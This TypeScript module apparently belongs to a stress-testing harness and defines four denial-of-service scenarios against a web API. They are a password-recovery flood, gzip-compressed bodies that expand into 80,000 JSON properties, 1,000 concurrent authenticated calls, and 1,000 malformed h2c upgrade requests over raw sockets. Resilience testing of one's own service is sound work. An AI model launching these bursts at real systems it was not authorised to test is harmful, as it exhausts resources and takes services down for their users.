import { createConnection } from 'node:net';
import { gzipSync } from 'node:zlib';
import { type Attack, countStatuses, type Target } from './attack.ts';

/** Milliseconds after which an answer is no longer waited for. */
const answerTimeout = 60_000;

const client = `Basic ${Buffer.from('web:web').toString('base64')}`;

const send = (url: string, init: RequestInit): Promise<number> =>
  fetch(url, { ...init, signal: AbortSignal.timeout(answerTimeout) }).then(
    async (answer) => {
      await answer.arrayBuffer();
      return answer.status;
    },
    () => 0,
  );

const burst = async (times: number, call: () => Promise<number>): Promise<string> =>
  countStatuses(await Promise.all(Array.from({ length: times }, call)));

/** A visitor with invented recovery tokens: before they were looked at, each had a password hashed. */
export const recoveryFlood: Attack = {
  name: '400 recuperi della password con gettoni inventati',
  prepare: async ({ address }: Target) => {
    const body = JSON.stringify({ password: 'Qualunque1!', pwd_recovery_token: 'x'.repeat(43) });
    const init = { method: 'PUT', headers: { authorization: client, 'content-type': 'application/json' }, body };
    return () => burst(400, () => send(`${address}/api/v1/auth/recover/password/`, init));
  },
};

/** A kilobyte or so that unfolds into 80,000 properties nobody asked for. */
export const manyProperties: Attack = {
  name: '20 corpi compressi di 80.000 proprietà',
  prepare: async ({ address }: Target) => {
    const properties = Object.fromEntries(Array.from({ length: 80_000 }, (_, index) => [`p${index}`, 1]));
    const body = gzipSync(JSON.stringify(properties));
    const headers = { authorization: client, 'content-type': 'application/json', 'content-encoding': 'gzip' };
    return () => burst(20, () => send(`${address}/api/v1/auth/login/`, { method: 'POST', headers, body }));
  },
};

/** One person who asks for everything at once. */
export const manyCalls: Attack = {
  name: '1.000 chiamate insieme di una persona',
  prepare: async ({ address, bearer }: Target) => {
    const init = { headers: { authorization: `Bearer ${bearer}` } };
    return () => burst(1000, () => send(`${address}/api/custom/v1/dashboard/me/`, init));
  },
};

const openUpgrade = (address: string): Promise<number> =>
  new Promise((resolve) => {
    const { hostname, port } = new URL(address);
    const socket = createConnection(Number(port), hostname);
    socket.on('error', () => resolve(0));
    socket.on('data', (text) => resolve(Number(/ (\d{3}) /.exec(String(text))?.[1] ?? 0)));
    socket.write(`GET /%zz HTTP/1.1\r\nHost: ${hostname}\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n`);
    setTimeout(() => {
      socket.destroy();
      resolve(0);
    }, 3000).unref();
  });

/** Connections that ask for another protocol at an address that cannot be decoded, and leave. */
export const strayUpgrades: Attack = {
  name: '1.000 richieste di upgrade indecifrabili',
  prepare:
    async ({ address }: Target) =>
    () =>
      burst(1000, () => openUpgrade(address)),
};
